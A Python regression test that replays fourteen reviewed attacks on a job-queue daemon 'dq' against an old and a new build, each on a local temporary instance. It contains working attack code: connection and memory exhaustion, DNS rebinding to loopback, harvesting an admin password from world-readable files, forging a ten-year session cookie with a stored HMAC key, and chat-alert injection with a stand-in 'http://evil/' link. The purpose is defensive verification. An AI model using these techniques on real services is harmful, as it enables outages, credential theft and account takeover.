#!/usr/bin/env python3
"""Makes the attacks of a hostile neighbour on two builds of dq: tests/attacks/proved.py OLD/dq NEW/dq [--only 4a,5b]

A review proved these attacks on a build of before the limits. Each one is made from outside: over the ports, over the
files that another user can open, and with the tokens that its text names. dq-master must be beside each dq. Prints for
each attack whether it `succeeds` or is `refused`, with the figures that show it, and exits with 0 if every attack
succeeds on OLD and is refused on NEW.

Each attack starts a daemon of its own, in a temporary folder, on free ports of 127.0.0.1. The attacker connects from
127.0.0.66, and the others from 127.0.0.1. An attack takes at most some 20 s and then ends its daemon. Attack 1 needs up
to a minute before it, to make dead letters. `not shown` says why an attack could not be made, and counts as a failure.

Needs Linux, Python 3.9 and `unshare`: for 2a the daemon has an /etc/hosts of its own, which nobody else sees. Needs root
for 6b, which becomes another user.
"""

import argparse
import base64
import contextlib
import fcntl
import hashlib
import hmac
import http.client
import http.server
import json
import os
import re
import resource
import shutil
import signal
import socket
import sqlite3
import stat
import struct
import subprocess
import tempfile
import threading
import time

HERE = "127.0.0.1"
ATTACKER = "127.0.0.66"
NOBODY = 65534
# In seconds. If an add of another tenant takes longer than this, the add counts as stopped.
TOO_SLOW = 2.0
# The maximum time of an attack, in seconds. An attack that hangs is ended after this time.
LONGEST = 150


class NotShown(Exception):
    """The attack cannot be made here, or does not reach what it is about. It then shows nothing."""


# ---- the daemon, and its clients


class Build:
    """The two executables of a build."""

    def __init__(self, dq):
        self.master = os.path.join(os.path.dirname(os.path.abspath(dq)), "dq-master")
        for path in (dq, self.master):
            if not os.access(path, os.X_OK):
                raise SystemExit(f"{path} is not an executable")

    def accepts(self, folder, config):
        """Whether the build starts with this configuration."""
        path = os.path.join(folder, "check.toml")
        write(path, config)
        check = subprocess.run([self.master, "--config", path, "--check"], capture_output=True, timeout=20)
        return check.returncode == 0


class Daemon:
    """A daemon in a temporary folder that other users can enter, started with the usual umask of 022."""

    def __init__(self, build, config="", server="", http_config="", folder=None, hosts=None):
        self.folder = folder or new_folder()
        self.port, self.http = free_port(), free_port()
        self.socket = os.path.join(self.folder, "var/run/http.sock")
        path = os.path.join(self.folder, "dq.toml")
        write(path, f"""log_dir = "logs"
drain_timeout = "1s"
[server]
listen = "{HERE}:{self.port}"
{server}
[http]
listen = "{HERE}:{self.http}"
{http_config}
{config}
""")
        environment = {name: value for name, value in os.environ.items() if not name.startswith(("DQ_", "RUST_LOG"))}
        with open(os.path.join(self.folder, "out"), "wb") as out:
            command = [*own_hosts(hosts), build.master, "--config", path]
            self.process = subprocess.Popen(command, cwd=self.folder, umask=0o022, env=environment,
                                            stdin=subprocess.DEVNULL, stdout=out, stderr=out)

    def __enter__(self):
        try:
            eventually(30, "the daemon is ready", self.is_ready)
        except BaseException:
            self.__exit__()
            raise
        return self

    def __exit__(self, *_):
        children = self.children().values()
        self.process.terminate()
        try:
            self.process.wait(15)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait(5)
            for pid in children:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)
        shutil.rmtree(self.folder, ignore_errors=True)

    def is_ready(self):
        if self.process.poll() is not None:
            with open(os.path.join(self.folder, "out"), encoding="utf-8") as out:
                raise NotShown(f"the daemon does not start: {out.read()[-300:]}")
        try:
            return self.root("GET", "/readyz").status == 200
        except OSError:
            return False

    def children(self):
        """The process ids of the daemon's processes, by name."""
        found = {}
        for entry in os.listdir("/proc"):
            with contextlib.suppress(OSError, ValueError):
                with open(f"/proc/{int(entry)}/status", encoding="utf-8") as file:
                    fields = dict(line.split(":\t", 1) for line in file.read().splitlines() if ":\t" in line)
                if int(fields["PPid"]) == self.process.pid:
                    found[fields["Name"]] = int(entry)
        return found

    def resident_mb(self, name):
        with open(f"/proc/{self.children()[name]}/status", encoding="utf-8") as file:
            return int(re.search(r"VmRSS:\s+(\d+)", file.read())[1]) / 1000

    def root(self, method, path, body=None, timeout=60):
        """A request of root, on the Unix socket."""
        connection = http.client.HTTPConnection(HERE)
        connection.sock = socket.socket(socket.AF_UNIX)
        connection.sock.settimeout(timeout)
        connection.sock.connect(self.socket)
        return ask(connection, method, path, body)

    def client(self, method, path, body=None, token=None, source=HERE, timeout=30, headers=()):
        """A request of a client without rights of its own, over TCP."""
        connection = http.client.HTTPConnection(HERE, self.http, timeout=timeout, source_address=(source, 0))
        shown = {"authorization": f"Bearer {token}"} if token else {}
        return ask(connection, method, path, body, {**shown, **dict(headers)})

    def topic(self, name, callback, **settings):
        expect(201, self.root("POST", "/v1/topics", {"name": name, "callback": callback, **settings}))

    def token(self, scope, name="client"):
        return expect(201, self.root("POST", "/v1/tokens", {"name": name, "scopes": [scope]})).json()["token"]

    def add(self, topic, **job):
        return expect(201, self.root("POST", f"/v1/topics/{topic}/jobs", {"body": 1, **job}))

    def path(self, *names):
        return os.path.join(self.folder, *names)


def own_hosts(path):
    """What to put before a command that shall see another /etc/hosts. Nobody else sees that file."""
    if path is None:
        return []
    mounts = ["unshare", "--mount"] if os.geteuid() == 0 else ["unshare", "--map-root-user", "--mount"]
    command = [*mounts, "sh", "-c", 'mount --bind "$0" /etc/hosts && exec "$@"', path]
    if subprocess.run([*command, "true"], capture_output=True, timeout=10).returncode != 0:
        raise NotShown("this machine does not let the daemon have an /etc/hosts of its own (unshare --mount)")
    return command


class Answer:
    """An answer of the HTTP API. Of a long one, the first 20 MB are kept."""

    def __init__(self, response):
        self.status = response.status
        self.text = response.read(20_000_000).decode("utf-8", "replace")
        self.length = len(self.text)

    def json(self):
        return json.loads(self.text)


def ask(connection, method, path, body=None, headers=None):
    data = body if body is None or isinstance(body, bytes) else json.dumps(body).encode()
    try:
        always = {"content-type": "application/json", "connection": "close"}
        connection.request(method, path, data, {**always, **(headers or {})})
        return Answer(connection.getresponse())
    except http.client.HTTPException as error:
        raise ConnectionError(f"{type(error).__name__}: {error}") from error
    finally:
        connection.close()


def expect(status, answer):
    if answer.status != status:
        raise NotShown(f"{answer.status} in place of {status}: {answer.text[:200]}")
    return answer


def eventually(seconds, what, is_so):
    """Waits until `is_so` returns something, and returns it."""
    end = time.monotonic() + seconds
    while True:
        found = is_so()
        if found:
            return found
        if time.monotonic() > end:
            raise NotShown(f"not within {seconds} s: {what}")
        time.sleep(0.05)


def free_port():
    with socket.socket() as one:
        one.bind((HERE, 0))
        return one.getsockname()[1]


def new_folder():
    folder = tempfile.mkdtemp(prefix="dq-attack-")
    os.chmod(folder, 0o755)
    return folder


def write(path, text):
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)


def connect(port, source=ATTACKER, timeout=5):
    return socket.create_connection((HERE, port), timeout=timeout, source_address=(source, 0))


def connect_many(count, port, first_bytes=b""):
    """Opens connections of the attacker, each of which sends some bytes. The daemon may refuse or end some of them."""
    connections = []
    for _ in range(count):
        with contextlib.suppress(OSError):
            one = connect(port)
            connections.append(one)
            one.sendall(first_bytes)
    return connections


def close_all(connections):
    for one in connections:
        one.close()


def frame(command):
    """A request of the TCP port: four bytes of length, then JSON."""
    text = json.dumps(command).encode()
    return struct.pack(">I", len(text)) + text


@contextlib.contextmanager
def receiver(status=200, body=b"", headers=()):
    """A receiver of callbacks. Yields its URL and the requests that it has got: the headers and the body of each."""
    got = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            got.append(({k.lower(): v for k, v in self.headers.items()},
                        self.rfile.read(int(self.headers.get("content-length", 0)))))
            self.send_response(status)
            for name, value in (*headers, ("content-length", str(len(body)))):
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer((HERE, 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://{HERE}:{server.server_port}/hook", got
    finally:
        server.shutdown()
        server.server_close()


def dead_letters(daemon, topic):
    topics = daemon.root("GET", "/v1/stats").json()["topics"]
    return sum(one["dead"] for one in topics if one["topic"] == topic)


def adds_of_another(daemon, token, seconds):
    """Adds jobs one by one as another tenant does. Returns for each its seconds, and why it failed or None."""
    came, end = [], time.monotonic() + seconds
    while time.monotonic() < end:
        begun = time.monotonic()
        try:
            answer = daemon.client("POST", "/v1/topics/other/jobs", {"body": 1, "delay": "1h"}, token, timeout=15)
            why = None if answer.status == 201 else f"{answer.status} {answer.json().get('code')}"
        except OSError as error:
            why = type(error).__name__
        came.append((time.monotonic() - begun, why))
        time.sleep(0.05)
    return came


def judge_adds(came):
    slowest = max(seconds for seconds, _ in came)
    failed = [why for _, why in came if why]
    text = f"of {len(came)} adds {len(failed)} fail{reasons(failed)}, the slowest takes {slowest:.2f} s"
    return bool(failed) or slowest > TOO_SLOW, text


def reasons(failed):
    return f" ({', '.join(sorted(set(failed)))})" if failed else ""


def tries(count, attempt):
    """Makes a few attempts of an honest client. Returns the reasons why some of them failed."""
    failed = []
    for _ in range(count):
        try:
            why = attempt()
        except OSError as error:
            why = type(error).__name__
        if why:
            failed.append(why)
        time.sleep(0.2)
    return failed


# ---- the attacks. Each attack returns whether it succeeds, and the figures that show this.

LETTERS = 50_000


def reads_stop_adds(build):
    """1: 200 long reads of a `produce` token stop the adds of others"""
    with Daemon(build, http_config='auth = "token"\nmax_connections = 1000') as daemon:
        # Nobody listens on this port, so that each callback fails at once.
        daemon.topic("mine", f"http://{HERE}:{free_port()}/", max_attempts=1, breaker_failures=0)
        daemon.topic("other", f"http://{HERE}:{free_port()}/")
        for part in range(0, LETTERS, 5000):
            jobs = [{"id": str(part + n), "body": "x" * 100} for n in range(5000)]
            expect(200, daemon.root("POST", "/v1/topics/mine/jobs/batch", {"jobs": jobs}))
        eventually(90, f"{LETTERS} dead letters", lambda: dead_letters(daemon, "mine") >= LETTERS)
        mine, others = daemon.token("produce:mine", "mine"), daemon.token("produce:other", "other")
        before = adds_of_another(daemon, others, 1)
        if judge_adds(before)[0]:
            raise NotShown(f"before the attack, {judge_adds(before)[1]}")
        head = f"GET /v1/topics/mine/dead?reason=nothing HTTP/1.1\r\nHost: {HERE}\r\nAuthorization: Bearer {mine}\r\n\r\n"
        reads = connect_many(200, daemon.http, head.encode())
        try:
            return judge_adds(adds_of_another(daemon, others, 15))
        finally:
            close_all(reads)


SHOP = "shop.dq-attack.example"


def write_hosts(path, address):
    """Writes the daemon's own /etc/hosts anew: this machine's, and the address of SHOP."""
    with open("/etc/hosts", encoding="utf-8") as hosts:
        write(path, f"{hosts.read()}\n{address} {SHOP}\n")


def name_reaches_loopback(build):
    """2a: a topic's host name that is re-pointed to loopback is called"""
    folder = new_folder()
    hosts = os.path.join(folder, "hosts")
    write_hosts(hosts, "10.255.255.1")
    with Daemon(build, folder=folder, hosts=hosts) as daemon, receiver() as (url, got):
        # This call shows that the receiver works: its address, without a name, may be called.
        daemon.topic("address", url)
        daemon.add("address")
        eventually(10, "a callback to the address", lambda: got)
        del got[:]
        daemon.topic("name", url.replace(HERE, SHOP), max_attempts=1, breaker_failures=0)
        write_hosts(hosts, HERE)
        for n in range(3):
            daemon.add("name", id=str(n))
            eventually(10, "a callback, or a dead letter", lambda: got or dead_letters(daemon, "name") > n)
        if got:
            return True, f"{len(got)} callbacks reach loopback by the name"
        attempts = daemon.root("GET", "/v1/topics/name/jobs/2").json()["log"]
        why = attempts[-1]["error"]
        if HERE not in why:
            raise NotShown(f"the name is not re-pointed: {why}")
        return False, f"dead letter: {why[:100]}"


def answer_is_read(build):
    """2b: a `produce` token reads what the receiver answered"""
    secret = "internal-page-7f3a"
    with Daemon(build, http_config='auth = "token"') as daemon, receiver(500, secret.encode()) as (url, _):
        daemon.topic("mine", url, max_attempts=1)
        daemon.add("mine", id="1")
        eventually(10, "a dead letter", lambda: dead_letters(daemon, "mine"))
        token = daemon.token("produce:mine")
        paths = ["/v1/topics/mine/jobs/1", "/v1/topics/mine/dead", "/v1/topics/mine/jobs?state=dead"]
        if secret not in expect(200, daemon.root("GET", paths[1])).text:
            raise NotShown("not even root sees the answer")
        answers = [daemon.client("GET", path, token=token) for path in paths]
        seen = [path for path, answer in zip(paths, answers) if secret in answer.text]
        if not seen and any(answer.status != 200 for answer in answers):
            raise NotShown(f"the token cannot read its dead letters: {[answer.status for answer in answers]}")
        return bool(seen), f"seen in {', '.join(seen)}" if seen else "seen nowhere, though root sees it"


def job_replaces_headers(build):
    """2c: headers of a job replace the topic's own"""
    names = ["cookie", "authorization", "x-forwarded-for"]
    with Daemon(build, http_config='auth = "token"') as daemon, receiver() as (url, got):
        daemon.topic("mine", url, headers={name: "of-the-topic" for name in names})
        token = daemon.token("produce:mine")
        replaced, refused = [], []
        for name in names:
            job = {"body": 1, "headers": {name: "of-the-job"}}
            answer = daemon.client("POST", "/v1/topics/mine/jobs", job, token)
            if answer.status == 422:
                refused.append(name)
                continue
            expect(201, answer)
            count = len(replaced) + 1
            eventually(10, "a callback", lambda: len(got) >= count)
            replaced.append(f"{name}: {got[-1][0].get(name)}")
        succeeds = any("of-the-job" in header for header in replaced)
        daemon.add("mine")
        own = "of-the-topic"
        eventually(10, "a callback with the topic's own headers", lambda: got and got[-1][0].get("cookie") == own)
        return succeeds, f"sent: {replaced}" if replaced else f"422 for {', '.join(refused)}"


def silence_shuts_http(build):
    """4a: 1,000 silent connections of one address shut the HTTP port for others"""
    with Daemon(build, http_config='auth = "token"') as daemon:
        held = connect_many(1000, daemon.http)
        time.sleep(1)
        failed = tries(5, lambda: None if daemon.client("GET", "/healthz", timeout=5).status == 200 else "refused")
        close_all(held)
        return len(failed) == 5, f"{len(failed)} of 5 requests of another address fail{reasons(failed)}"


def honest_command(daemon, token):
    """Signs in to the TCP port. Returns why that failed, or None."""
    with connect(daemon.port, HERE) as one:
        one.sendall(frame({"cmd": "auth", "token": token}))
        answer = one.recv(4)
        return None if len(answer) == 4 else "closed"


def pings_hold_tcp(build):
    """4b: 200 connections that only ping hold the TCP port"""
    with Daemon(build, server='auth = "token"\nmax_connections = 200') as daemon:
        token = daemon.token("read")
        if tries(1, lambda: honest_command(daemon, token)):
            raise NotShown("no client can sign in before the attack")
        held, failed, begun = [], [], time.monotonic()
        while time.monotonic() - begun < 14:
            held = [one for one in held if keeps_pinging(one)]
            held += connect_many(200 - len(held), daemon.port)
            failed.append(bool(tries(1, lambda: honest_command(daemon, token))))
        close_all(held)
        later = failed[len(failed) // 2:]
        return all(later), f"{sum(failed)} of {len(failed)} clients of another address are refused in 14 s"


def keeps_pinging(one):
    try:
        one.sendall(frame({"cmd": "ping"}))
        one.settimeout(1)
        return bool(one.recv(100))
    except OSError:
        one.close()
        return False


def bodies_refuse_receivers(build):
    """4c: 125 silent bodies to /v1/ack/x refuse the receivers"""
    later = [("dq-ack", "later")]
    with Daemon(build, http_config='auth = "token"') as daemon, receiver(202, headers=later) as (url, got):
        daemon.topic("other", url, answer_later="1h")
        urls = []
        for n in range(5):
            daemon.add("other", id=str(n))
            eventually(10, "a callback", lambda: len(got) > len(urls))
            urls.append(got[-1][0].get("dq-ack-url", "").split(f":{daemon.http}")[-1])
        if not all(urls):
            raise NotShown("the callbacks have no dq-ack-url")
        head = f"POST /v1/ack/x HTTP/1.1\r\nHost: {HERE}\r\nContent-Length: 100\r\n\r\n"
        held = connect_many(125, daemon.http, head.encode())
        time.sleep(1)
        acks = iter(urls)

        def report():
            answer = daemon.client("POST", next(acks), timeout=5)
            return None if answer.status == 200 else f"{answer.status} {answer.json().get('code')}"

        failed = tries(5, report)
        close_all(held)
        return len(failed) == 5, f"{len(failed)} of 5 reports of a receiver are refused{reasons(failed)}"


def frames_cost_memory(build):
    """4d: each half-sent frame of 1 MB costs as much memory, without an end: 300 cost more than 150 MB"""
    with Daemon(build, server='max_frame = "1MiB"') as daemon:
        before, grown, held = daemon.resident_mb("dq-server"), [], []
        half = struct.pack(">I", 1_000_000) + b" " * 990_000
        for _ in range(3):
            held += connect_many(100, daemon.port, half)
            time.sleep(1)
            grown.append(daemon.resident_mb("dq-server") - before)
        close_all(held)
        steps = ", ".join(f"{mb:.0f}" for mb in grown)
        return grown[-1] > 150, f"dq-server grows by {steps} MB with 100, 200, 300 frames"


def reader_sees_credentials(build):
    """5a: a `read` token sees credentials of a topic"""
    secrets = ["pass-1f", "key-2f", "bearer-3f"]
    with Daemon(build, http_config='auth = "token"') as daemon:
        callback = f"http://user:{secrets[0]}@{HERE}:9/hook?key={secrets[1]}"
        daemon.topic("t", callback, headers={"authorization": f"Bearer {secrets[2]}"})
        token = daemon.token("read")
        paths = ("/v1/topics", "/v1/topics/t")
        text = "".join(expect(200, daemon.client("GET", path, token=token)).text for path in paths)
        if "/hook" not in text:
            raise NotShown("the token does not see the topic")
        seen = [secret for secret in secrets if secret in text]
        return bool(seen), f"{len(seen)} of {len(secrets)} credentials are shown"


def check_multiplies(build):
    """5b: 0.9 MB to POST /v1/check/topic are answered with more than 5 MB"""
    with Daemon(build, http_config='auth = "token"') as daemon:
        token, fields = daemon.token("read"), {f"k{n}": 1 for n in range(82_000)}
        body = json.dumps({"name": "t", "callback": "http://a/", **fields}, separators=(",", ":")).encode()
        answer = expect(200, daemon.client("POST", "/v1/check/topic", body, token))
        out = f"{'at least ' if answer.length >= 2e7 else ''}{answer.length / 1e6:.2f} MB"
        return answer.length > 5e6, f"{len(body) / 1e6:.2f} MB in, {out} out"


def as_nobody(work, seconds=15):
    """Runs `work(report)` in a child process: as another user if this one is root. Returns the child's process id and
    a file of the lines that it reports."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(reading)
            signal.alarm(seconds)
            if os.geteuid() == 0:
                os.setgroups([])
                os.setgid(NOBODY)
                os.setuid(NOBODY)
            work(lambda line: os.write(writing, (line + "\n").encode()))
        except BaseException as error:
            os.write(writing, f"{type(error).__name__}\n".encode())
        finally:
            os._exit(0)
    os.close(writing)
    return pid, os.fdopen(reading, encoding="utf-8")


def end_child(pid):
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)


def others_can_read(daemon, path):
    """Whether another user may read a file, by the modes of it and of its folders below the daemon's."""
    folder = os.path.dirname(path)
    if folder != daemon.folder and not os.stat(folder).st_mode & stat.S_IXOTH:
        return False
    return bool(os.stat(path).st_mode & stat.S_IROTH)


def passwords_in(path):
    with open(path, encoding="utf-8", errors="replace") as file:
        return set(re.findall(r"\b(?:[a-z0-9]{5}-){3}[a-z0-9]{5}\b", file.read(1_000_000)))


def mode(path):
    return oct(os.stat(path).st_mode & 0o777)[2:]


def log_shows_password(build):
    """6a: any user reads the admin's first password, in a log"""
    with Daemon(build, http_config='auth = "token"') as daemon:
        def signs_in(word):
            return daemon.client("POST", "/console/session", {"name": "admin", "password": word}).status == 200

        first = daemon.path("var/run/first-password")
        eventually(10, "an account", lambda: "admin" in daemon.root("GET", "/v1/accounts").text)
        time.sleep(0.5)

        is_another = os.geteuid() == 0

        def search(report):
            for folder, _, names in os.walk(daemon.folder):
                for path in (os.path.join(folder, name) for name in names):
                    with contextlib.suppress(OSError):
                        if is_another or others_can_read(daemon, path):
                            for word in passwords_in(path):
                                report(f"{path[len(daemon.folder) + 1:]} (mode {mode(path)}) {word}")

        pid, lines = as_nobody(search)
        found = [line.rsplit(" ", 1) for line in lines.read().splitlines()]
        end_child(pid)
        for where, word in found:
            if signs_in(word):
                return True, f"another user reads it in {where}, and signs in"
        if not (os.path.exists(first) and any(signs_in(word) for word in passwords_in(first))):
            raise NotShown("the first password is found nowhere, not even by root")
        return False, f"no file that another user can read has it; it is in a file of mode {mode(first)}"


def lock_stops_adds(build):
    """6b: `flock` of another user on dq.db-turn stops all adds"""
    if os.geteuid() != 0:
        raise NotShown("needs root, to become another user")
    with Daemon(build, http_config='auth = "token"') as daemon:
        daemon.topic("other", f"http://{HERE}:9/")
        token = daemon.token("produce:other")
        if judge_adds(adds_of_another(daemon, token, 1))[0]:
            raise NotShown("adds fail before the attack")

        def lock(report):
            fd = os.open(daemon.path("var/dq.db-turn"), os.O_RDONLY)
            fcntl.flock(fd, fcntl.LOCK_EX)
            report("locked")
            time.sleep(14)

        pid, lines = as_nobody(lock)
        try:
            line = lines.readline().strip()
            came = adds_of_another(daemon, token, 5)
        finally:
            end_child(pid)
        succeeds, text = judge_adds(came)
        return succeeds, f"{'it locks' if line == 'locked' else 'it cannot lock, ' + line}; {text}"


def session_is_forged(build):
    """7: a session of ten years, forged with the stored key, is accepted"""
    with Daemon(build, http_config='auth = "token"') as daemon:
        registry, key = daemon.path("var/registry.db"), daemon.path("var/run/session-key")

        def account():
            with contextlib.closing(sqlite3.connect(registry, timeout=5)) as database:
                return database.execute("SELECT digest, created_ms FROM token WHERE name = '@admin'").fetchone()

        digest, created_ms = eventually(10, "the account of admin", account)
        if os.path.exists(key):
            # The key is in a file. The signed data also contains the account's hash and the time when the account was
            # created.
            secret = open(key, "rb").read()
            extra = hashlib.sha256(b"dq console session 2\0" + digest.encode()).digest() + struct.pack(">q", created_ms)
            place = "a file outside the registry"
        else:
            # The key is made from the account's hash, which is in the registry.
            secret = hashlib.sha256(b"dq console session 1\0" + digest.encode()).digest()
            extra, place = b"", "the registry"

        def accepted(days):
            payload = f"admin.{int((time.time() + days * 86400) * 1000)}"
            mac = hmac.new(secret, extra + b"cookie\0" + payload.encode(), "sha256").digest()
            value = f"{payload}.{base64.urlsafe_b64encode(mac).decode().rstrip('=')}"
            cookie = f"dq_session_{daemon.http}={value}"
            return daemon.client("GET", "/v1/tokens", headers=[("cookie", cookie)]).status == 200

        eventually(10, "a session of an hour, signed with the stored key", lambda: accepted(1 / 24))
        ten_years = accepted(3650)
        verdict = "is accepted, too" if ten_years else "is not"
        return ten_years, f"the key is in {place}; a session of an hour is accepted, one of ten years {verdict}"


def chat_alert_calls_all(build):
    """9: an alert in a chat has an unescaped <!channel> or <!here> of a receiver or a client"""
    folder, evil = new_folder(), "<!channel> <http://evil/|click>"
    with receiver(500, evil.encode()) as (url, _), receiver() as (chat, alerts):
        templates = ['{"text": {{ text | slack }}}', '{"text": {{ text }}}']
        webhook = f'name = "chat"\nurl = "{chat}"\ntemplate_file = "slack.json"\n'
        alert = f'[alert]\ngather = "1s"\n[[alert.webhook]]\n{webhook}'
        for template in templates:
            # conf/alerts/slack.json of a build has one of these two texts: the first one if the build knows the filter
            # `slack`.
            write(os.path.join(folder, "slack.json"), template)
            if build.accepts(folder, alert):
                break
        with Daemon(build, alert, folder=folder) as daemon:
            daemon.topic("mine", url, max_attempts=1, title=evil)
            daemon.add("mine", id="<!here>")
            eventually(15, "an alert", lambda: alerts)
            text = json.loads(alerts[0][1])["text"]
            found = [tag for tag in ("<!channel>", "<!here>", "<http://evil/|click>") if tag in text]
            if not found and "here" not in text:
                raise NotShown(f"the alert says nothing of the client or the receiver: {text}")
            job = next(line.strip() for line in text.splitlines() if "job " in line)
            return bool(found), f"with {template}: {job}"


ATTACKS = [
    reads_stop_adds,
    name_reaches_loopback,
    answer_is_read,
    job_replaces_headers,
    silence_shuts_http,
    pings_hold_tcp,
    bodies_refuse_receivers,
    frames_cost_memory,
    reader_sees_credentials,
    check_multiplies,
    log_shows_password,
    lock_stops_adds,
    session_is_forged,
    chat_alert_calls_all,
]


# ---- the table


def too_long(*_):
    raise NotShown(f"the attack has not ended after {LONGEST} s")


def outcome(attack, build):
    """Makes an attack. Returns `succeeds`, `refused` or `not shown`, and why."""
    signal.signal(signal.SIGALRM, too_long)
    signal.alarm(LONGEST)
    try:
        succeeds, figures = attack(build)
        return "succeeds" if succeeds else "refused", figures
    except Exception as error:
        why = str(error) if isinstance(error, NotShown) else f"{type(error).__name__}: {error}"
        return "not shown", why
    finally:
        signal.alarm(0)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("old", metavar="OLD/dq")
    parser.add_argument("new", metavar="NEW/dq")
    parser.add_argument("--only", help="the numbers of some attacks, such as 4a,5b")
    arguments = parser.parse_args()
    only = set(arguments.only.split(",")) if arguments.only else None
    builds = [Build(arguments.old), Build(arguments.new)]
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096 if most == resource.RLIM_INFINITY else min(4096, most), most))
    with tempfile.TemporaryDirectory(prefix="dq-attacks-") as folder:
        os.chmod(folder, 0o755)
        tempfile.tempdir = folder
        if not make_all(builds, only):
            raise SystemExit("not every attack succeeds on OLD and is refused on NEW")


def make_all(builds, only):
    """Makes the attacks and prints the table. Returns whether each one succeeds on OLD and is refused on NEW."""
    as_wanted = True
    print("attack | OLD | NEW\n---|---|---", flush=True)
    for attack in ATTACKS:
        number = attack.__doc__.split(":")[0]
        if only is None or number in only:
            old, new = (outcome(attack, build) for build in builds)
            as_wanted &= (old[0], new[0]) == ("succeeds", "refused")
            print(f"{attack.__doc__} | {old[0]}: {old[1]} | {new[0]}: {new[1]}", flush=True)
    return as_wanted


if __name__ == "__main__":
    main()
